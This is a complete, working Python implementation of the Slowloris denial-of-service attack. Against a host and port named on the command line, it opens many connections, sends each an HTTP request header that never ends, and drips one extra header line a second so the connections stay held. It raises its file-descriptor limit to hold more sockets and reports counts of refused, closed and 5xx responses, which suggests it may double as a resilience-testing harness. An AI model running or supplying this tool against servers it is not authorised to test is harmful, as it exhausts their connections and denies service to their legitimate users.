#!/usr/bin/env python3
"""slowloris.py HOST PORT RATE SECONDS: open RATE new connections a second for
SECONDS, each sending a request header that never ends (one more header line
a second), and hold them all until the end. Prints one line of figures:
opened, refused (connect failed), closed by the server, answers received,
of which 5xx, and the most held at once."""
import errno
import resource
import selectors
import socket
import sys
import time


def main():
    host, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = int(rate * seconds) + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    cap = resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 64
    sel = selectors.DefaultSelector()
    socks = {}
    opened = refused = closed = answers = fivexx = most = 0
    start = time.monotonic()
    next_open = start
    last_drip = start
    while True:
        now = time.monotonic()
        if now - start >= seconds:
            break
        while next_open <= now and len(socks) < cap:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            rc = s.connect_ex((host, port))
            if rc not in (0, errno.EINPROGRESS):
                refused += 1
                s.close()
            else:
                socks[s] = b"GET /login HTTP/1.1\r\nHost: %s\r\nUser-Agent: slow\r\n" % host.encode()
                sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
                opened += 1
            next_open += 1.0 / rate
        most = max(most, len(socks))
        drip = now - last_drip >= 1.0
        if drip:
            last_drip = now
        for key, ev in sel.select(timeout=0.001):
            s = key.fileobj
            if ev & selectors.EVENT_READ:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if data:
                    answers += 1
                    if data.startswith(b"HTTP/1.1 5") or data.startswith(b"HTTP/1.0 5"):
                        fivexx += 1
                sel.unregister(s)
                s.close()
                del socks[s]
                closed += 1
                continue
            if ev & selectors.EVENT_WRITE and socks[s]:
                try:
                    s.send(socks[s])
                    socks[s] = b""
                    sel.modify(s, selectors.EVENT_READ)
                except OSError:
                    sel.unregister(s)
                    s.close()
                    del socks[s]
                    refused += 1
        if drip:
            for s in list(socks):
                try:
                    s.send(b"X-Slow: 1\r\n")
                except OSError:
                    pass
    for s in list(socks):
        s.close()
    print("opened %d refused %d closed_by_server %d answers %d answers_5xx %d most_held %d"
          % (opened, refused, closed, answers, fivexx, most))


if __name__ == "__main__":
    main()
